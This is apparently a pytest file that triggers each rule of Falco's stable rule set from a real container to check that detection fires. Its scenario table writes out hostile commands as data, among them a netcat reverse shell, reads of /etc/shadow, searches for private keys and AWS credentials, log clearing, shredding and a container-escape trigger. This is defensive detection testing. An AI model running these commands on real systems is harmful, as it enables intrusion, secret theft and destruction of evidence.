"""Every rule of Falco's falco_rules.yaml, loaded by `mayfly run --rules`, fires from a
real runc container doing what the rule describes, and names the container."""

from pathlib import Path

import pytest
from scenarios import ATTACK, run_scenarios
K8S_API = ("127.0.0.3", "kubernetes.default.svc.cluster.local")


def sh(script):
    return ["/bin/sh", "-c", script]


def attack_as(path, *args):
    """The attack helper under another name (what the rule looks for), and its arguments."""
    return {"args": [path, *args], "files": {path: "attack"}}


# rule -> how a container triggers it (the scenario format of scenarios.run_scenarios)
CASES = {
    "Directory traversal monitored file read": {"args": ["/bin/cat", "/etc/../etc/../etc/passwd"]},
    "Read sensitive file trusted after startup": {**attack_as("/usr/sbin/nginx", "sleep_open", "6", "/etc/shadow"),
                                                  "files": {"/usr/sbin/nginx": "attack", "/etc/shadow": "secret"}},
    "Read sensitive file untrusted": {"args": ["/bin/cat", "/etc/shadow"], "files": {"/etc/shadow": "secret"}},
    "Run shell untrusted": attack_as("/usr/sbin/nginx", "spawn", "/bin/sh", "-c", "true"),
    "System user interactive": {"args": ["/bin/login", "-f", "nobody"], "uid": 65534},
    "Terminal shell in container": {"args": [ATTACK, "tty", "/bin/sh", "-c", "sleep 0.5"], "attack": True},
    "Contact K8S API Server From Container": {"args": [ATTACK, "connect", K8S_API[0], "443"], "attack": True,
                                              "host_network": True},
    "Netcat Remote Code Execution in Container": {"args": sh("ln -s /bin/busybox /tmp/nc; /tmp/nc -e /bin/sh 127.0.0.1 9")},
    "Search Private Keys or Passwords": {"args": ["/bin/grep", "BEGIN PRIVATE", "/etc/passwd"]},
    "Clear Log Activities": {"args": sh("mkdir -p /var/log && : > /var/log/app.log")},
    "Remove Bulk Data from Disk": {"args": sh("ln -s /bin/busybox /tmp/shred; /tmp/shred -u /tmp/nothing")},
    "Create Symlink Over Sensitive Files": {"args": ["/bin/ln", "-s", "/etc/shadow", "/tmp/s"]},
    "Create Hardlink Over Sensitive Files": {"args": ["/bin/ln", "/etc/shadow", "/tmp/h"],
                                             "files": {"/etc/shadow": "secret"}},
    "Packet socket created in container": {"args": [ATTACK, "packet_socket"], "attack": True},
    "Redirect STDOUT/STDIN to Network Connection in Container": {"args": [ATTACK, "redirect", "port"],
                                                                 "attack": True, "host_network": True},
    "Linux Kernel Module Injection Detected": {"args": [ATTACK, "init_module"], "attack": True,
                                               "capabilities": ["CAP_SYS_MODULE"]},
    "Debugfs Launched in Privileged Container": {**attack_as("/usr/sbin/debugfs", "ptrace_traceme"),
                                                 "capabilities": ["CAP_SYS_ADMIN"]},
    "Detect release_agent File Container Escapes": {"args": sh("echo 1 > /tmp/release_agent; sleep 0.5"),
                                                    "capabilities": ["CAP_SYS_ADMIN"]},
    "PTRACE attached to process": {"args": [ATTACK, "ptrace_attach"], "attack": True},
    "PTRACE anti-debug attempt": {"args": [ATTACK, "ptrace_traceme"], "attack": True},
    "Find AWS Credentials": {"args": ["/bin/grep", "aws_access_key_id", "/etc/passwd"]},
    # runc mounts /dev/shm noexec: undone first, as an intruder with CAP_SYS_ADMIN would
    "Execution from /dev/shm": {"args": sh("mount -o remount,exec /dev/shm && cp /bin/busybox /dev/shm/x && /dev/shm/x"),
                                "capabilities": ["CAP_SYS_ADMIN"]},
    "Drop and execute new binary in container": {"args": sh("cp /bin/busybox /tmp/sleep && /tmp/sleep 0.5")},
    "Disallowed SSH Connection Non Standard Port": {**attack_as("/usr/bin/ssh", "connect", "198.51.100.7", "4444"),
                                                    "host_network": True},
    # from a child of the entrypoint: the rule lets runc's own memfd execs (pname runc) be
    "Fileless execution via memfd_create": {"args": [ATTACK, "spawn", ATTACK, "memfd_exec", "/bin/busybox", "sleep",
                                                     "0.5"], "attack": True},
}


@pytest.fixture
def k8s_api_name():
    """The name Falco's rule resolves, in /etc/hosts while the test runs."""
    hosts = Path("/etc/hosts")
    before = hosts.read_text()
    hosts.write_text(before + f"{K8S_API[0]} {K8S_API[1]}\n")
    yield
    hosts.write_text(before)


def test_every_rule_of_falcos_stable_file_fires_from_a_container(rig, tmp_path, falco_corpus, k8s_api_name):
    fired = run_scenarios(rig, tmp_path, ["--rules", str(falco_corpus / "falco_rules.yaml")], CASES)
    assert {rule: sorted(names) for rule, names in fired.items() if rule not in names} == {}
